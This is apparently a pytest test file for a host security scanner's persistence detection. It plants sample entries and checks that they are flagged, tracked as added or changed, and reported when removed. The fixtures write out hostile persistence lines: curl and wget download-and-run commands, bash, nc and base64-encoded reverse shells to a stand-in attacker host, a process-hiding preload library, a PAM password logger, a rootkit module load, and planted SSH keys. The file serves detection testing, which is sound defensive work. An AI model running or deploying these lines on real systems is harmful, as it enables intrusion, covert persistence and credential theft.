"""Planting each kind of persistence makes the next scan report it added (suspicious ones flagged); removal is reported."""

from __future__ import annotations

from pathlib import Path

import pytest

from hostwarden.core.records import ecs_records
from hostwarden.scan.base import ScanContext
from hostwarden.scan.persistence import PersistenceScanner

BENIGN_ROOT = {
    "etc/passwd": "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    "etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    "etc/profile": "PATH=/usr/bin:/bin\n",
    "etc/pam.d/common-auth": "auth required pam_unix.so\n",
    "home/alice/.bashrc": "alias ll='ls -l'\n",
}

# category, path, content, expected heuristic (None: benign but still new)
PLANTS = [
    ("cron", "etc/cron.d/updater", "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | bash\n", "download_exec"),
    ("cron", "var/spool/cron/crontabs/alice", "@reboot /dev/shm/.x/kworker\n", "tmp_binary"),
    ("cron", "etc/cron.daily/logclean", "#!/bin/sh\nfind /var/log -name '*.gz' -mtime +400 -delete\n", None),
    ("at", "var/spool/cron/atjobs/a0001", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "reverse_shell"),
    ("systemd", "etc/systemd/system/dbus-helper.service",
     "[Service]\nExecStart=/bin/sh -c 'echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3g= | base64 -d | sh'\n",
     "base64_payload"),
    ("systemd", "etc/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\n", None),
    ("systemd", "home/alice/.config/systemd/user/sync.service", "[Service]\nExecStart=/home/alice/.cache/.s/sync\n", "hidden_path"),
    ("initd", "etc/rc.local", "#!/bin/sh\nnc 203.0.113.9 4444 -e /bin/sh &\n", "reverse_shell"),
    ("initd", "etc/init.d/myapp", "#!/bin/sh\n/opt/myapp/bin/start\n", None),
    ("shell", "etc/profile.d/proxy.sh", "export http_proxy=http://proxy.internal:3128\n", None),
    ("shell", "root/.bashrc", "wget -q http://203.0.113.9/a -O /tmp/a; chmod +x /tmp/a; /tmp/a\n", "download_exec"),
    ("ssh_keys", "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0000planted attacker@evil\n", None),
    ("preload", "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", "preload_library"),
    ("sudoers", "etc/sudoers.d/zz", "alice ALL=(ALL) NOPASSWD: ALL\n", None),
    ("modules", "etc/modules-load.d/rk.conf", "diamorphine\n", None),
    ("modules", "etc/modprobe.d/evil.conf", "install usb-storage /bin/sh -c '/tmp/.k/load'\n", "tmp_binary"),
    ("pam", "etc/pam.d/sshd", "auth optional pam_exec.so expose_authtok /usr/local/bin/log-pass\n", "pam_exec"),
    ("udev", "etc/udev/rules.d/99-run.rules", 'ACTION=="add", RUN+="/var/tmp/payload"\n', "tmp_binary"),
    ("motd", "etc/update-motd.d/99-x", "#!/bin/sh\npython3 -c 'import socket,subprocess;s=socket.socket(socket.AF_INET);subprocess.call([\"sh\"])'\n", "reverse_shell"),
]


def _write(root: Path, rel: str, text: str) -> None:
    (root / rel).parent.mkdir(parents=True, exist_ok=True)
    (root / rel).write_text(text)


@pytest.fixture()
def scan_env(tmp_path: Path) -> tuple[Path, ScanContext]:
    root = tmp_path / "root"
    for rel, text in BENIGN_ROOT.items():
        _write(root, rel, text)
    return root, ScanContext(root=root, data_dir=tmp_path / "data")


def _by_path(findings: list[dict]) -> dict[str, dict]:
    return {f["file.path"]: f for f in findings}


def test_benign_baseline_has_no_findings(scan_env: tuple[Path, ScanContext]) -> None:
    _, ctx = scan_env
    scanner = PersistenceScanner()
    assert ecs_records(scanner.scan(ctx)) == []
    assert scanner.summary["baseline"] and scanner.summary["items"] == len(BENIGN_ROOT) - 1  # passwd is no item
    assert ecs_records(PersistenceScanner().scan(ctx)) == []  # unchanged host, no drift


def test_planted_items_reported_added_and_flagged_then_removed(scan_env: tuple[Path, ScanContext]) -> None:
    root, ctx = scan_env
    ecs_records(PersistenceScanner().scan(ctx))
    for _, rel, text, _ in PLANTS:
        _write(root, rel, text)
    found = _by_path(ecs_records(PersistenceScanner().scan(ctx)))
    for category, rel, _, flag in PLANTS:
        f = found.get("/" + rel)
        assert f is not None, rel
        ev = f["hostwarden.evidence"]
        assert ev["drift"] == "added" and ev["category"] == category, (rel, ev)
        flags = {x["heuristic"] for x in ev["flags"]}
        if flag:
            assert flag in flags, (rel, flags)
        else:
            assert not flags, (rel, flags)
    assert found["/var/spool/cron/atjobs/a0001"]["hostwarden.grade"] == "L1"
    assert found["/etc/cron.daily/logclean"]["hostwarden.grade"] == "L3"

    for _, rel, _, _ in PLANTS:
        (root / rel).unlink()
    removed = ecs_records(PersistenceScanner().scan(ctx))
    assert {f["file.path"] for f in removed} == {"/" + rel for _, rel, _, _ in PLANTS}
    assert all(f["event.action"] == "persistence-removed" for f in removed)


def test_changed_item_and_new_key_in_existing_file(scan_env: tuple[Path, ScanContext]) -> None:
    root, ctx = scan_env
    _write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@corp\n")
    ecs_records(PersistenceScanner().scan(ctx))
    _write(root, "etc/crontab", BENIGN_ROOT["etc/crontab"] + "* * * * * root /usr/local/bin/new\n")
    _write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@corp\n"
           "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQevil mallory\n")
    found = ecs_records(PersistenceScanner().scan(ctx))
    drift = sorted((f["file.path"], f["hostwarden.evidence"]["drift"]) for f in found)
    assert drift == [("/etc/crontab", "changed"), ("/root/.ssh/authorized_keys", "added")]
    assert "mallory" in found[-1]["hostwarden.evidence"]["snippet"] or "mallory" in found[0]["hostwarden.evidence"]["snippet"]


def test_suspicious_items_reported_on_first_scan_without_state(tmp_path: Path) -> None:
    _write(tmp_path, "etc/cron.d/x", "* * * * * root curl http://x/y | sh\n")
    found = ecs_records(PersistenceScanner().scan(ScanContext(root=tmp_path)))
    assert [f["event.action"] for f in found] == ["persistence-suspicious"]


def test_damaged_state_is_a_notice_not_a_crash(scan_env: tuple[Path, ScanContext]) -> None:
    root, ctx = scan_env
    from hostwarden.scan.integrity_state import state_store
    from hostwarden.store.eventstore import EventStore

    with EventStore(ctx.data_dir) as store:
        store.query("INSERT OR REPLACE INTO kv VALUES ('scan.persistence', '{not json')")
    assert ecs_records(PersistenceScanner().scan(ctx)) == []
    assert ctx.notices and ctx.notices[0]["code"] == "SCAN-9203"
    assert state_store(ctx).load("persistence")["items"]


@pytest.mark.parametrize(("category", "text"), [
    ("initd", '# create a directory in /tmp.\nDIR="/tmp/$1"\nfn="$(mktemp /tmp/testwriteable.XXXXXXXXXX)"\n'),
    ("shell", 'export PYENV_ROOT="$HOME/.pyenv"\n. "$HOME/.cargo/env"\nexport PATH="/root/.cargo/bin:$PATH"\n'),
    ("cron", "# curl http://x | sh was removed\n0 4 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n"),
    ("ssh_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJhc2U2NGJhc2U2NGJhc2U2NGJhc2U2NGJhc2U2NA user@host"),
])
def test_heuristics_leave_ordinary_entries_alone(category: str, text: str) -> None:
    from hostwarden.scan.persistence_heuristics import judge

    assert judge(category, text) == []
